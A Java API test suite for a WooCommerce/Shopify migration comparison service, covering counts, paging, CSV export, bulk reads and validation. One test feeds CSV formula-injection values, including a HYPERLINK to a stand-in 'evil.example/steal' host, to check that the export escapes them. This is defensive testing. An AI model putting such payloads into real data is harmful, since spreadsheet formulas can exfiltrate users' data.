package dev.syncline.migration.compare;

import dev.syncline.commons.testing.TestTokens;
import dev.syncline.migration.support.CommerceSandbox;
import dev.syncline.migration.support.CsvRecords;
import dev.syncline.migration.support.MigrationApi;
import dev.syncline.migration.support.MigrationTestBase;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.http.ContentType;
import io.restassured.path.json.JsonPath;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.api.Test;

import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;
import java.util.stream.Collectors;

import static io.restassured.RestAssured.given;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.startsWith;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

/** Comparisons through the API, checked against what the sandbox generated: every count and every difference. */
@QuarkusTest
class CompareApiTest extends MigrationTestBase {

    @ParameterizedTest
    @CsvSource({"customers,woocommerce,Customer", "customers,shopify,Customer", "orders,woocommerce,Order", "orders,shopify,Order"})
    void aComparisonFindsExactlyWhatTheSandboxSaysIsMissing(String kind, String source, String noun) {
        JsonPath truth = CommerceSandbox.truth(kind, source);
        JsonPath answer = MigrationApi.compare(kind, source);

        assertEquals(source, answer.getString("summary.sourceOfTruth"));
        assertEquals(truth.getInt("sourceCount"), answer.getInt("summary.source" + noun + "Count"));
        assertEquals(truth.getInt("destinationCount"), answer.getInt("summary.destination" + noun + "Count"));
        assertEquals(truth.getInt("matched"), answer.getInt("summary.matched" + noun + "s"));
        assertEquals(truth.getList("onlyInSource").size(), answer.getInt("summary." + kind + "OnlyInSource"));
        assertEquals(truth.getList("ambiguous").size(), answer.getInt("summary.ambiguous"));
        assertEquals("completed", answer.getString("status"));
        assertFalse(answer.getBoolean("truncated"));

        List<Map<String, Object>> differences = answer.getList("differences");
        String idField = "source" + noun + "Id";
        assertEquals(new TreeSet<>(truth.getList("onlyInSource", String.class)), ids(differences, idField, "onlyInSource"));
        assertEquals(new TreeSet<>(truth.getList("ambiguous", String.class)), ids(differences, idField, "ambiguous"));
        for (Map<String, Object> d : differences) {
            assertEquals(true, d.get("existsInSource"));
            assertEquals(false, d.get("existsInDestination"));
            assertEquals(source, d.get("sourcePlatform"));
            assertTrue(d.get("matchNote") != null && !d.get("matchNote").toString().isBlank(), "each difference says why: " + d);
            if ("ambiguous".equals(d.get("matchStatus"))) {
                assertTrue(((List<?>) d.get("candidates")).size() >= 2, "an ambiguous record names its candidates: " + d);
            }
        }
    }

    @Test
    void aLargeResultIsPagedAndTheCsvHoldsEveryDifference() {
        CommerceSandbox.reset(Map.of("seed", 3, "sharedCustomers", 900, "wooOnlyCustomers", 1300, "shopifyOnlyCustomers", 10));
        JsonPath truth = CommerceSandbox.truth("customers", "woocommerce");
        int expected = truth.getList("onlyInSource").size() + truth.getList("ambiguous").size();

        JsonPath first = MigrationApi.compare("customers", "woocommerce");
        assertTrue(first.getBoolean("truncated"), "more than the inline limit is not answered at once");
        assertEquals(1000, first.getList("differences").size());
        assertEquals(expected, first.getInt("totalDifferences"));

        long id = first.getLong("comparisonId");
        List<Map<String, Object>> paged = MigrationApi.allDifferences("customers", id, 250);
        assertEquals(expected, paged.size());
        assertEquals(expected, paged.stream().map(d -> d.get("sourceCustomerId")).distinct().count(), "no difference twice");

        String csv = given().auth().oauth2(TestTokens.admin()).get("/api/customers/compare/" + id + ".csv")
                .then().statusCode(200).contentType(startsWith("text/csv")).extract().asString();
        List<String> lines = csv.lines().toList();
        assertTrue(lines.get(0).contains("email") && lines.get(0).contains("sourceCustomerId"), lines.get(0));
        assertEquals(expected, lines.size() - 1);
        String someId = (String) paged.get(777).get("sourceCustomerId");
        assertTrue(lines.stream().anyMatch(l -> l.contains("," + someId + ",") || l.startsWith(someId + ",")), someId);
    }

    @Test
    void aValueWithLineBreaksStaysOneQuotedCellAndNoLineOfItIsAFormula() {
        String firstName = "Anna\n=HYPERLINK(\"https://evil.example/steal\")\nX";
        String lastName = "Smith\r\n+SUM(1;2)\r\n@cmd\n-12.50";
        wooCustomer("csv-breaks@example.com", firstName, lastName);
        long id = MigrationApi.compare("customers", "woocommerce").getLong("comparisonId");

        String csv = given().auth().oauth2(TestTokens.admin()).get("/api/customers/compare/" + id + ".csv")
                .then().statusCode(200).extract().asString();
        List<List<String>> records = CsvRecords.parse(csv);
        List<String> header = records.get(0);
        assertTrue(records.stream().allMatch(r -> r.size() == header.size()), "every record has the header's fields");
        List<String> anna = records.stream().filter(r -> "csv-breaks@example.com".equals(r.get(0))).findFirst().orElseThrow();
        assertEquals("Anna\n'=HYPERLINK(\"https://evil.example/steal\")\nX", anna.get(header.indexOf("firstName")));
        assertEquals("Smith\r\n'+SUM(1;2)\r\n'@cmd\n-12.50", anna.get(header.indexOf("lastName")));
        assertFalse(csv.lines().anyMatch(line -> line.startsWith("=") || line.startsWith("+") || line.startsWith("@")),
                "no physical line of the file starts a formula");
    }

    @Test
    void shopifyAboveTheBulkThresholdIsReadByABulkOperationWithTheSameResult() {
        CommerceSandbox.reset(Map.of("seed", 5, "sharedCustomers", 500, "wooOnlyCustomers", 10, "shopifyOnlyCustomers", 30));
        JsonPath truth = CommerceSandbox.truth("customers", "shopify");
        JsonPath answer = MigrationApi.compare("customers", "shopify");

        assertEquals(truth.getInt("sourceCount"), answer.getInt("summary.sourceCustomerCount"));
        assertEquals(new TreeSet<>(truth.getList("onlyInSource", String.class)),
                ids(answer.getList("differences"), "sourceCustomerId", "onlyInSource"));
        assertTrue(CommerceSandbox.stats().getInt("shopifyBulkOperations") >= 1, "a bulk operation read the customers");
    }

    @Test
    void shopifyOrdersAboveTheBulkThresholdAreReadByABulkExportWithTheirLineItems() {
        CommerceSandbox.reset(Map.of("seed", 9, "sharedCustomers", 20, "sharedOrders", 420, "wooOnlyOrders", 5, "shopifyOnlyOrders", 40));
        JsonPath truth = CommerceSandbox.truth("orders", "shopify");
        JsonPath answer = MigrationApi.compare("orders", "shopify");

        assertEquals(truth.getInt("sourceCount"), answer.getInt("summary.sourceOrderCount"));
        assertEquals(truth.getInt("matched"), answer.getInt("summary.matchedOrders"));
        assertEquals(new TreeSet<>(truth.getList("onlyInSource", String.class)),
                ids(answer.getList("differences"), "sourceOrderId", "onlyInSource"));
        Map<String, Integer> lineCounts = CommerceSandbox.held("shopify", "orders").stream().collect(Collectors.toMap(
                o -> (String) o.get("id"), o -> ((List<?>) o.get("lineItems")).size()));
        List<Map<String, Object>> differences = answer.getList("differences");
        for (Map<String, Object> d : differences) {
            assertEquals(lineCounts.get((String) d.get("sourceOrderId")), d.get("lineItemCount"), "each order with its own line items: " + d);
        }
        assertTrue(CommerceSandbox.stats().getInt("shopifyBulkOperations") >= 1, "a bulk export read the orders");
    }

    @Test
    void twoBulkExportsAtOnceWaitForEachOtherAndBothComplete() {
        CommerceSandbox.reset(Map.of("seed", 11, "sharedCustomers", 450, "shopifyOnlyCustomers", 7, "sharedOrders", 420, "shopifyOnlyOrders", 9));
        CommerceSandbox.put("/sandbox/shopify/bulk", Map.of("runMs", 1500));
        long customers = startAsync("customers");
        long orders = startAsync("orders");

        JsonPath customerAnswer = awaitCompleted("customers", customers);
        JsonPath orderAnswer = awaitCompleted("orders", orders);
        assertEquals(CommerceSandbox.truth("customers", "shopify").getInt("sourceCount"), customerAnswer.getInt("summary.sourceCustomerCount"));
        assertEquals(CommerceSandbox.truth("orders", "shopify").getInt("sourceCount"), orderAnswer.getInt("summary.sourceOrderCount"));
        assertEquals(2, CommerceSandbox.stats().getInt("shopifyBulkOperations"), "one export each, the second started after the first");
    }

    private static long startAsync(String kind) {
        return given().auth().oauth2(TestTokens.admin()).contentType(ContentType.JSON)
                .body(Map.of("sourceOfTruth", "shopify", "async", true)).post("/api/" + kind + "/compare")
                .then().statusCode(202).extract().jsonPath().getLong("comparisonId");
    }

    private static JsonPath awaitCompleted(String kind, long id) {
        org.awaitility.Awaitility.await().atMost(java.time.Duration.ofSeconds(60)).until(() ->
                !"running".equals(given().auth().oauth2(TestTokens.admin()).get("/api/" + kind + "/compare/" + id)
                        .then().statusCode(200).extract().jsonPath().getString("status")));
        JsonPath answer = given().auth().oauth2(TestTokens.admin()).get("/api/" + kind + "/compare/" + id).then().extract().jsonPath();
        assertEquals("completed", answer.getString("status"), () -> answer.prettify());
        return answer;
    }

    @Test
    void throttlingSlowsAComparisonButLosesNothing() {
        CommerceSandbox.put("/sandbox/shopify/limits", Map.of("maximumAvailable", 1000, "restoreRate", 1000, "throttledStatus", 429));
        JsonPath truth = CommerceSandbox.truth("orders", "shopify");
        JsonPath answer = MigrationApi.compare("orders", "shopify");

        assertEquals(truth.getInt("sourceCount"), answer.getInt("summary.sourceOrderCount"));
        assertEquals(new TreeSet<>(truth.getList("onlyInSource", String.class)),
                ids(answer.getList("differences"), "sourceOrderId", "onlyInSource"));
    }

    @Test
    void wooPagesThatRepeatThemselvesFailTheComparisonInWords() {
        CommerceSandbox.put("/sandbox/woo/paging-bug", Map.of("enabled", true));
        given().auth().oauth2(TestTokens.admin()).contentType(ContentType.JSON).body(Map.of("sourceOfTruth", "woocommerce"))
                .post("/api/customers/compare").then().statusCode(502)
                .body("detail", containsString("WooCommerce"));
    }

    @Test
    void anAsynchronousComparisonIsReadWhenItHasCompleted() {
        long id = given().auth().oauth2(TestTokens.admin()).contentType(ContentType.JSON)
                .body(Map.of("sourceOfTruth", "shopify", "async", true)).post("/api/customers/compare")
                .then().statusCode(202).body("status", equalTo("running")).extract().jsonPath().getLong("comparisonId");
        org.awaitility.Awaitility.await().atMost(java.time.Duration.ofSeconds(60)).until(() ->
                "completed".equals(given().auth().oauth2(TestTokens.admin()).get("/api/customers/compare/" + id)
                        .then().statusCode(200).extract().jsonPath().getString("status")));
        given().auth().oauth2(TestTokens.admin()).get("/api/orders/compare/" + id).then().statusCode(404)
                .body("detail", containsString("No orders comparison " + id));
    }

    @Test
    void aPageFarPastTheEndIsEmptyAndNotTheFirstPage() {
        long id = MigrationApi.compare("customers", "woocommerce").getLong("comparisonId");
        given().auth().oauth2(TestTokens.admin()).queryParam("page", Integer.MAX_VALUE).queryParam("size", 100)
                .get("/api/customers/compare/" + id).then().statusCode(200)
                .body("page", equalTo(Integer.MAX_VALUE)).body("differences", org.hamcrest.Matchers.empty())
                .body("truncated", equalTo(false));
        given().auth().oauth2(TestTokens.admin()).queryParam("page", Integer.MAX_VALUE).queryParam("size", 50)
                .get("/customer-sync/compare/" + id).then().statusCode(200)
                .body("page", equalTo(Integer.MAX_VALUE)).body("differences", org.hamcrest.Matchers.empty());
    }

    @Test
    void badRequestsAreRefusedNamingTheProblem() {
        given().auth().oauth2(TestTokens.admin()).contentType(ContentType.JSON).body(Map.of("sourceOfTruth", "magento"))
                .post("/api/customers/compare").then().statusCode(400).body("detail", containsString("sourceOfTruth"));
        given().auth().oauth2(TestTokens.admin()).contentType(ContentType.JSON).body("{}")
                .post("/api/orders/compare").then().statusCode(400).body("detail", containsString("sourceOfTruth"));
        given().auth().oauth2(TestTokens.admin()).queryParam("size", 5000).get("/api/customers/compare/1")
                .then().statusCode(400).body("detail", containsString("size"));
        given().auth().oauth2(TestTokens.admin()).get("/api/customers/compare/999999").then().statusCode(404);
        given().auth().oauth2(TestTokens.admin()).get("/api/customers/compare/99999999999999999999").then().statusCode(400)
                .body("field", equalTo("id")).body("detail", containsString("'id'"));
        given().auth().oauth2(TestTokens.viewer()).contentType(ContentType.JSON).body(Map.of("sourceOfTruth", "shopify"))
                .post("/api/customers/compare").then().statusCode(403);
        given().contentType(ContentType.JSON).body(Map.of("sourceOfTruth", "shopify"))
                .post("/api/customers/compare").then().statusCode(401);
        given().header("Authorization", "Bearer test-cron-secret").contentType(ContentType.JSON).body(Map.of("sourceOfTruth", "shopify"))
                .post("/api/customers/compare").then().statusCode(200);
    }

    private static void wooCustomer(String email, String firstName, String lastName) {
        given().baseUri(CommerceSandbox.url()).auth().preemptive().basic("ck_sandbox", "cs_sandbox").contentType(ContentType.JSON)
                .body(Map.of("email", email, "first_name", firstName, "last_name", lastName))
                .post("/woo/wp-json/wc/v3/customers").then().statusCode(201);
    }

    private static Set<String> ids(List<Map<String, Object>> differences, String field, String status) {
        return differences.stream().filter(d -> status.equals(d.get("matchStatus"))).map(d -> (String) d.get(field))
                .collect(Collectors.toCollection(TreeSet::new));
    }
}
